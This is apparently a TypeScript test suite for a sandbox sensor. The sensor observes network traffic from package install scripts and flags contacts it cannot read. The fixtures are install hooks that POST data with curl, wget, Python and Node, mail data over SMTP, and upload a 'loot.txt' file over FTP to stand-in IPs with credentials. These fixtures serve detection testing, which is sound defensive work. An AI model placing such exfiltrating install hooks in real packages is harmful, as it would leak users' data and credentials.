import { expect, it } from 'vitest'
import type { Endpoint, SeenMessage, SeenRequest } from '../../src/model/index.ts'
import { ThrowAwayCa } from '../../src/sandbox/sensor/certificates.ts'
import type { Boxed, BoxResult, BoxRunner } from './boxed.ts'

/** A root that is not the box's. */
const OTHER_ROOT = new ThrowAwayCa(Date.now()).pem
const PLACE = 'https://read.example/path?q=1'
const SAID_SHA256 = 'fb46c79b7eb7af175f493755b491afa9b25574a9230b8822c629f224a2df4e58'
const PYTHON = `import urllib.request,urllib.error
try: urllib.request.urlopen(urllib.request.Request('${PLACE}', data=b'said'))
except urllib.error.HTTPError: pass
`
const HTTP2 = `
const client = require('http2').connect('https://read.example')
const stream = client.request({ ':path': '/path?q=1', ':method': 'POST' })
stream.on('end', () => client.close()).resume().end('said')`
const FETCH = `fetch('${PLACE}', { method: 'POST', body: 'said' })`
const HTTPS = `require('https').request('${PLACE}', { method: 'POST' }, (answer) => answer.resume()).end('said')`
const REQUEST =
  'POST /path?q=1 HTTP/1.1\\r\\nHost: read.example\\r\\nContent-Length: 4\\r\\nConnection: close\\r\\n\\r\\nsaid'

/** Each finds its roots in its own way: the system's bundle, a variable, an option. */
const CLIENTS: Readonly<Record<string, readonly [httpVersion: string, command: string, code?: string]>> = {
  'curl-2': ['2.0', `curl -sS --http2 -d said '${PLACE}'`],
  'curl-1': ['1.1', `curl -sS --http1.1 -d said '${PLACE}'`],
  'curl-tunnel': ['2.0', `curl -sS -x http://203.0.113.40:3128 -d said '${PLACE}'`],
  wget: ['1.1', `wget -q -O- --post-data=said '${PLACE}' || true`],
  python: ['1.1', 'python3 code', PYTHON],
  'node-http2': ['2.0', 'node code', HTTP2],
  'node-fetch': ['1.1', 'node code', FETCH],
  'node-https': ['1.1', 'node code', HTTPS],
  openssl: [
    '1.1',
    `printf '${REQUEST}' | openssl s_client -quiet -verify_return_error -connect read.example:443 -servername read.example`,
  ],
}

const PIN =
  "const { connect } = require('tls'); connect({ host: 'pinned.example', port: 443, servername: 'pinned.example', ca: require('fs').readFileSync('ca.pem') }).on('error', () => {})"
const OTHERS: readonly Boxed[] = [
  boxed('git', 'git ls-remote https://read.example/team/repo.git || true'),
  boxed('h2c-upgrade', 'curl -sS --http2 -d said http://read.example/in'),
  boxed('h2c-at-once', 'curl -sS --http2-prior-knowledge -d said http://read.example/in'),
  boxed('pins-in-node', 'node code', PIN),
  boxed('pins-in-curl', 'curl -sS --cacert ca.pem --capath /none https://pinned.example/ || true'),
  boxed(
    'mails',
    'curl -sS smtp://203.0.113.41 -u me:mail-password --mail-from a@b.example --mail-rcpt c@d.example -T code',
    'the mail\n',
  ),
  boxed('uploads', 'curl -sS ftp://me:ftp-password@203.0.113.42/loot.txt -T code', 'the loot\n'),
]

function boxed(name: string, command: string, code = ''): Boxed {
  return { name, scripts: { install: command }, files: { code, 'ca.pem': OTHER_ROOT } }
}

/** What the clients of a machine say is read, whatever roots they trust and whoever is to speak first. */
export function clientContract(open: () => BoxRunner): void {
  let watched: Promise<BoxResult> | undefined
  const of = async (name: string) => {
    watched ??= open().run([
      ...Object.entries(CLIENTS).map(([client, [, command, code]]) => boxed(client, command, code)),
      ...OTHERS,
    ])
    const result = await watched
    const run = result.runs.find((one) => one.package === name)?.id
    const own = <T extends { readonly run: number | null }>(all: readonly T[] = []) =>
      all.filter((one) => one.run === run)
    return {
      requests: own<SeenRequest>(result.requests),
      messages: own<SeenMessage>(result.messages),
      contacts: result.findings.filter((one) => one.package === name && one.code === 'foreign-contact'),
      output: result.outputOf(name),
    }
  }

  it.each(Object.keys(CLIENTS))('what %s sends over TLS', async (name) => {
    const { requests, messages, output } = await of(name)
    expect(requests.at(-1), output).toMatchObject({
      ...{ scheme: 'https', method: 'POST', path: '/path?q=1', httpVersion: CLIENTS[name]?.[0] },
      host: expect.stringMatching(/^read\.example(?::443)?$/), // Node writes the port over HTTP/2
      ...{ serverName: 'read.example', bodyLength: 4, bodySha256: SAID_SHA256 },
    })
    expect(Buffer.from(requests.at(-1)?.body ?? []).toString()).toBe('said')
    expect(messages).toEqual([])
    expect(requests.slice(0, -1).map(({ method }) => method)).toEqual(
      name === 'curl-tunnel' ? ['CONNECT'] : [],
    )
  })

  it('what git asks over TLS', async () => {
    const { requests, output } = await of('git')
    expect(requests, output).toMatchObject([{ method: 'GET', host: 'read.example', scheme: 'https' }])
    expect(requests[0]?.path).toBe('/team/repo.git/info/refs?service=git-upload-pack')
  })

  it.each([
    ['h2c-upgrade', '1.1'], // the upgrade is not made, the request is read
    ['h2c-at-once', '2.0'],
  ])('HTTP/2 in the clear: %s', async (name, httpVersion) => {
    expect((await of(name)).requests).toMatchObject([
      { scheme: 'http', httpVersion, host: 'read.example', path: '/in', bodyLength: 4, serverName: null },
    ])
  })

  it.each([
    ['pins-in-node', ['left-silent', 'certificate-refused']], // it hangs up before or after it has answered
    ['pins-in-curl', ['certificate-refused']],
  ])('who does not trust us, %s: the contact, and that nothing was read', async (name, unread) => {
    const { requests, messages, contacts } = await of(name)
    expect(requests).toEqual([])
    expect(messages).toMatchObject([{ protocol: 'tls', serverName: 'pinned.example', length: 0 }])
    expect(unread).toContain(messages[0]?.unread)
    expect(contacts).toMatchObject([
      { host: 'pinned.example', severity: 'suspicious', detail: expect.stringContaining('content not seen') },
    ])
  })

  const text = (messages: readonly SeenMessage[], to: Partial<Endpoint>) =>
    messages
      .filter(({ destination }) => destination.port === to.port)
      .map(({ protocol, bytes }) => `${protocol}: ${Buffer.from(bytes).toString()}`)
      .join('')

  it('a mail, and who logged in to send it', async () => {
    const { messages, output } = await of('mails')
    const said = text(messages, { port: 25 })
    expect(said, output).toMatch(/^smtp: EHLO .*MAIL FROM:<a@b\.example>.*DATA\r\nthe mail\s+\.\r\nQUIT/s)
    expect(said).toContain(Buffer.from('\0me\0mail-password').toString('base64'))
  })

  it('a file that is uploaded, and who logged in to do it', async () => {
    const { messages, output } = await of('uploads')
    expect(text(messages, { port: 21 }), output).toMatch(
      /^ftp: USER me\r\nPASS ftp-password\r\n.*STOR loot\.txt/s,
    )
    expect(text(messages, { port: 50_021 })).toBe('tcp: the loot\n')
  })
}
